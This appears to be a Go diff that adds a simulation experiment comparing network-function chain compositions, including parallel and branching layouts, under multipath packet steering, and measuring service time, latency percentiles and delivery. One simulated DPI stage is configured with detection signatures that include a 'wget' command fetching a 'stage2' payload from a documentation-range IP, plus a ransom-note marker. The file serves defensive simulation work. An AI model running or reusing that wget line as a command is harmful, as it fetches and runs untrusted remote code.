@@ -1,0 +1,177 @@
+package experiment
+
+import (
+	"fmt"
+
+	"mpdp/internal/core"
+	"mpdp/internal/nf"
+	"mpdp/internal/packet"
+	"mpdp/internal/sim"
+	"mpdp/internal/stats"
+	"mpdp/internal/vnet"
+	"mpdp/internal/workload"
+	"mpdp/internal/xrand"
+)
+
+func init() {
+	Registry["E16"] = E16Composition
+}
+
+// composeVariant builds one chain layout per lane.
+type composeVariant struct {
+	name  string
+	chain func() *nf.Chain
+}
+
+// composeVariants returns the three compositions under study. All run the
+// same five logical NFs (classifier, firewall, router, monitor, DPI);
+// only the composition differs.
+func composeVariants() []composeVariant {
+	return []composeVariant{
+		{"sequential chain", func() *nf.Chain { return nf.PresetChain(5) }},
+		{"parallel group (mon || dpi)", func() *nf.Chain {
+			par := nf.NewParallelGroup("par",
+				nf.NewMonitor("mon"),
+				nf.NewDPI("dpi", nf.DefaultSignatures, false),
+			)
+			return nf.NewChain("sfc-par",
+				nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(), par)
+		}},
+		{"sequential dual-DPI (2x signatures)", func() *nf.Chain {
+			return nf.NewChain("sfc-seq2",
+				nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(),
+				nf.NewMonitor("mon"),
+				nf.NewDPI("dpiA", nf.DefaultSignatures, false),
+				nf.NewDPI("dpiB", []string{
+					"X-Shard-B: ransom-note-marker",
+					"\xde\xad\xbe\xef\xde\xad\xbe\xef",
+					"wget http://198.51.100.9/stage2",
+				}, false))
+		}},
+		{"parallel dual-DPI (2x signatures)", func() *nf.Chain {
+			// Delay-balanced parallelism: two equally expensive DPI
+			// instances with disjoint signature shards scan concurrently —
+			// double the inspection coverage at roughly single-DPI latency.
+			par := nf.NewParallelGroup("par2",
+				nf.NewDPI("dpiA", nf.DefaultSignatures, false),
+				nf.NewDPI("dpiB", []string{
+					"X-Shard-B: ransom-note-marker",
+					"\xde\xad\xbe\xef\xde\xad\xbe\xef",
+					"wget http://198.51.100.9/stage2",
+				}, false),
+			)
+			return nf.NewChain("sfc-par2",
+				nf.PresetClassifier(), nf.PresetFirewall(20), nf.PresetRouter(),
+				nf.NewMonitor("mon"), par)
+		}},
+		{"fast-path branch (lat skips dpi)", func() *nf.Chain {
+			common := []nf.Element{nf.PresetFirewall(20), nf.PresetRouter(), nf.NewMonitor("mon")}
+			fast := nf.NewChain("fast", common...)
+			slowElems := append(append([]nf.Element{}, common...),
+				nf.NewDPI("dpi", nf.DefaultSignatures, false))
+			slow := nf.NewChain("slow", slowElems...)
+			br := nf.NewBranch("fp", func(p *packet.Packet) int {
+				if nf.ClassOf(p) == nf.ClassLatencySensitive {
+					return 0
+				}
+				return 1
+			}, fast, slow)
+			return nf.NewChain("sfc-branch", nf.PresetClassifier(), br)
+		}},
+	}
+}
+
+// E16Composition — NF composition (the ParaGraph axis) crossed with
+// multipath: does composing the chain differently stack with scheduling?
+func E16Composition(opts SuiteOpts) (*Result, error) {
+	opts.fill()
+	res := &Result{
+		ID:    "E16",
+		Title: "NF composition x multipath @ 70% load (4 paths, moderate interference)",
+		Notes: []string{
+			"same five logical NFs, three compositions, identical arrival rate (calibrated to the sequential chain)",
+			"expected shape: parallel/branch compositions cut base service time (p50); multipath cuts queueing (p99); the effects stack",
+		},
+	}
+	tab := Table{
+		Name: "E16t", Title: "composition x steering",
+		Columns: []string{"composition", "policy", "service_mean_us", "p50_us", "p99_us", "delivery_%"},
+	}
+	for _, v := range composeVariants() {
+		for _, pol := range []string{"rss", "mpdp"} {
+			var svc, p50, p99, del float64
+			for seed := 0; seed < opts.Seeds; seed++ {
+				r, err := runComposition(opts.Seed+uint64(seed)*7919, pol, v, opts)
+				if err != nil {
+					return nil, err
+				}
+				svc += r[0]
+				p50 += r[1]
+				p99 += r[2]
+				del += r[3]
+			}
+			n := float64(opts.Seeds)
+			tab.Rows = append(tab.Rows, []string{
+				v.name, pol,
+				fmt.Sprintf("%.2f", svc/n),
+				fmt.Sprintf("%.1f", p50/n),
+				fmt.Sprintf("%.1f", p99/n),
+				fmt.Sprintf("%.2f", del/n),
+			})
+		}
+	}
+	res.Tables = append(res.Tables, tab)
+	return res, nil
+}
+
+// runComposition runs one (composition, policy) cell and returns
+// [serviceMeanUs, p50Us, p99Us, delivery%].
+func runComposition(seed uint64, policyName string, v composeVariant, opts SuiteOpts) ([4]float64, error) {
+	var out [4]float64
+	rng := xrand.New(seed)
+	policy, err := NewPolicy(policyName, rng.Split(), PolicyParams{})
+	if err != nil {
+		return out, err
+	}
+	s := sim.New()
+
+	sizes := workload.IMIX{Rng: rng.Split()}
+	// Calibrate on the sequential chain so every composition sees the
+	// same packet rate: composition benefits show as latency, not load.
+	meanCost := workload.MeanServiceCost(nf.PresetChain(5), sizes, rng.Split(), 300)
+	gap := sim.Duration(float64(meanCost+150) / (0.7 * 4))
+
+	traffic := workload.NewTraffic(workload.TrafficConfig{
+		Arrival: workload.NewPoisson(rng.Split(), gap),
+		Size:    sizes,
+		Flows:   64,
+		Rng:     rng.Split(),
+	})
+
+	measured := stats.NewHist()
+	dp := core.New(s, core.Config{
+		NumPaths:     4,
+		ChainFactory: func(i int) *nf.Chain { return v.chain() },
+		Policy:       policy,
+		JitterSigma:  0.15,
+		Interference: vnet.DefaultInterferenceConfig(),
+		Seed:         seed,
+	}, func(p *packet.Packet) { measured.Record(int64(p.Latency())) })
+
+	cls := nf.PresetClassifier()
+	horizon := opts.duration(25 * sim.Millisecond)
+	traffic.Run(s, func(p *packet.Packet) {
+		cls.Process(s.Now(), p)
+		dp.Ingress(p)
+	}, horizon)
+	s.RunUntil(horizon + 10*sim.Millisecond)
+	dp.Flush()
+	s.RunUntil(horizon + 12*sim.Millisecond)
+
+	m := dp.Metrics()
+	out[0] = m.ServiceTime.Mean() / 1000
+	out[1] = float64(measured.Percentile(0.50)) / 1000
+	out[2] = float64(measured.Percentile(0.99)) / 1000
+	out[3] = m.DeliveryRate() * 100
+	return out, nil
+}
